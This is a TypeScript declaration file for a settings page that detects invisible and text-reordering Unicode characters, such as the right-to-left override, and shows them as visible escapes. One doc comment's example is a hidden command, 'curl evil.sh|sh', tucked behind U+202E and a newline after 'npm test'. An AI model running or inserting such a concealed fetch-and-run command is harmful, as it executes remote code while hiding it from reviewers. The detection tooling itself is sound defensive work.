// `toolgate/settings-page/visible.js`: the characters that are invisible or reorder text, written
// out as the core writes them in its messages (`\u{202E}`; `\t`, `\n`, `\r`). The settings page's
// own copy of the core's set (src/visible.rs), for text a page or a prompt shows before or without
// the core.

/** The characters written out, as [first, last] code point ranges. */
export declare const HIDDEN_RANGES: readonly (readonly [number, number])[];

/** Whether the character with this code point is written out. */
export declare function isHidden(codePoint: number): boolean;

/** Whether `text` holds a character that is written out. */
export declare function hasHidden(text: string): boolean;

/** `text` with every such character written out: `npm test #\u{202E}\ncurl evil.sh|sh`. */
export declare function visible(text: string): string;

/** A run of text to draw: as it is, or one such character written out (`hidden` names it, `U+202E`). */
export interface VisiblePart {
  text: string;
  hidden?: string;
}

/**
 * `text` cut into runs, each character that is written out a run of its own (to be marked). With
 * `written: true`, for text already written out, its `\u{…}` of those characters are such runs too.
 */
export declare function parts(text: string, options?: { written?: boolean }): VisiblePart[];

/** The characters of `text` that are written out, each once, in order: `['U+202E', 'U+000A']`. */
export declare function hiddenIn(text: string): string[];

/** `U+202E (right-to-left override)`: a character's name where it has one a person may know. */
export declare function describe(name: string): string;
